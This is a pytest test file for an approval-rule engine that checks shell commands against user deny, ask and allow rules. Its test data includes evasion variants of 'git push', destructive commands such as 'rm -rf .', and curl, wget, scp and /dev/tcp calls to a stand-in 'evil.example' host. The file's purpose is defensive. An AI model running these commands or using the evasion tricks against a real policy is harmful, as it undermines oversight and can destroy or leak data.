"""The user's own rules: what they apply to, and which are refused when they are read."""

import pytest

from hermetic.approvals.matching import Ground
from hermetic.approvals.rules import Rules
from hermetic.approvals.settings import RuleSettings
from hermetic.contract.errors import ConfigError
from hermetic.policy import examine_command
from hermetic.policy.shell import DEFAULT_HOME, DEFAULT_WORKSPACE

GROUND = Ground(DEFAULT_HOME, DEFAULT_WORKSPACE)


def rule(decision: str, example: str, **more: object) -> RuleSettings:
    return RuleSettings(decision=decision, matches=(example,), **more)  # type: ignore[arg-type]


DENY_PUSH = rule("deny", "git push", command=("git", "push"))
PUSHES = (
    "git push",
    "git push origin main",
    "git -C sub push",
    "git -c a=b push --force",
    "/usr/bin/git push",
    "'git' pu''sh",
    "x=push; git $x",
    "bash -c 'git push'",
    "sudo git push",
    "env A=1 git push",
    "true && git push",
    "$(git push)",
    "echo | xargs git push",
    "timeout 5 git push",
    "git $UNKNOWN",
    "f() { git push; }; f",
    "python3 -c 'import os; os.system(\"git push\")'",
)


@pytest.mark.parametrize("command", PUSHES)
def test_a_denied_command_is_found_however_it_is_written(command: str) -> None:
    rules = Rules([DENY_PUSH])
    assert rules.denied(command, examine_command(command).acts, GROUND)


@pytest.mark.parametrize("command", ["git pull", "echo git push", "git commit -m 'git push'", "gitpush", "grep push x"])
def test_and_nothing_else(command: str) -> None:
    rules = Rules([DENY_PUSH], ["git push*"])
    assert rules.denied(command, examine_command(command).acts, GROUND) is None


@pytest.mark.parametrize(
    ("path", "command", "applies"),
    [
        ("src/**", "echo x > src/a/b.py", True),
        ("src/**", "cd src && rm a", True),
        ("src/**", "cp a src", True),
        ("src/**", "touch other/src/a", False),
        ("src/*.py", "touch src/a.py", True),
        ("src/*.py", "touch src/x/a.py", False),
        ("**/*.lock", "touch a/b/c.lock", True),
        ("~/.vimrc", "echo x >> ~/.vimrc", True),
        ("/srv", "rm /srv/a/b", True),
        ("/srv", "rm /srv2/a", False),
        ("src/**", "cat src/a", False),
        ("src/**", "rm -rf .", True),
        ("src/**", "mv src /tmp/x", True),
        ("src/**", "mv src/a b", True),
        ("src/**", "sed -i s/a/b/ ./x/../src/c", True),
    ],
)
def test_a_path_is_ruled_by_where_it_leads(path: str, command: str, applies: bool) -> None:
    asked = Rules([RuleSettings(decision="ask", path=path, matches=(_example(path),))])
    assert bool(list(asked.asked(examine_command(command).acts, GROUND))) is applies


def _example(path: str) -> str:
    return f"touch {path.replace('**/', 'x/').replace('**', 'x').replace('*', 'x')}"


def test_a_path_that_cannot_be_known_may_be_what_is_denied_and_is_asked_about() -> None:
    rules = Rules([rule("deny", "rm src/a", path="src/**")])
    acts = examine_command('echo x > "$FILE"').acts
    assert rules.denied("", acts, GROUND) is None
    assert len(list(rules.asked(acts, GROUND))) == 1


@pytest.mark.parametrize(
    ("command", "applies"),
    [
        ("curl https://api.evil.example/x", True),
        ("git clone https://u:p@evil.example/r", True),
        ("ssh me@evil.example ls", True),
        ("scp a evil.example:/b", True),
        ("echo x > /dev/tcp/evil.example/80", True),
        ("wget evil.example/x", True),
        ("python3 -c \"import requests; requests.get('http://evil.example/')\"", True),
        ("curl https://evil.example.org/", False),
        ("echo evil.example", False),
    ],
)
def test_a_host_is_found_wherever_it_is_named(command: str, applies: bool) -> None:
    rules = Rules([rule("deny", "curl https://evil.example", network="*.evil.example")])
    assert bool(rules.denied(command, examine_command(command).acts, GROUND)) is applies


def test_the_first_rule_that_applies_decides_between_asking_and_allowing() -> None:
    narrow = rule("allow", "curl https://docs.example/x", network="docs.example")
    wide = rule("ask", "curl https://x.example", network="*.example")
    acts = examine_command("curl https://docs.example/x").acts
    assert list(Rules([narrow, wide]).asked(acts, GROUND)) == []
    assert list(Rules([wide, narrow]).asked(acts, GROUND)) != []


WHOLE = "bash sh python3 python3.12 perl node sudo env rm git find docker /bin/bash b*"
TOO_MUCH = [
    *([program] for program in WHOLE.split(" ")),
    ["rm", "-rf"], ["git", "-C"], ["bash", "-c"], ["sudo", "apt"], ["rm", "*"], ["xargs", "rm"], ["npx", "x"],
    ["ssh", "host"],
]  # fmt: skip


@pytest.mark.parametrize("words", TOO_MUCH, ids=" ".join)
def test_no_rule_allows_a_shell_or_its_like_as_a_whole(words: list[str]) -> None:
    with pytest.raises(ConfigError, match=r"as a whole|named whole"):
        Rules([rule("allow", " ".join(words), command=tuple(words))])


@pytest.mark.parametrize("path", ["/", "**", "~", "~/**", "/**"])
def test_no_rule_allows_everything(path: str) -> None:
    with pytest.raises(ConfigError, match="it would allow everything"):
        Rules([rule("allow", "touch a", path=path)])


def test_one_exact_command_of_such_a_program_can_be_allowed() -> None:
    rules = Rules(
        [rule("allow", "sudo systemctl restart app", command=("sudo", "systemctl", "restart", "app"), exact=True)]
    )
    parts = examine_command("sudo systemctl stop app").verdict.parts
    assert not any(rules.allows(part, GROUND) for part in parts)
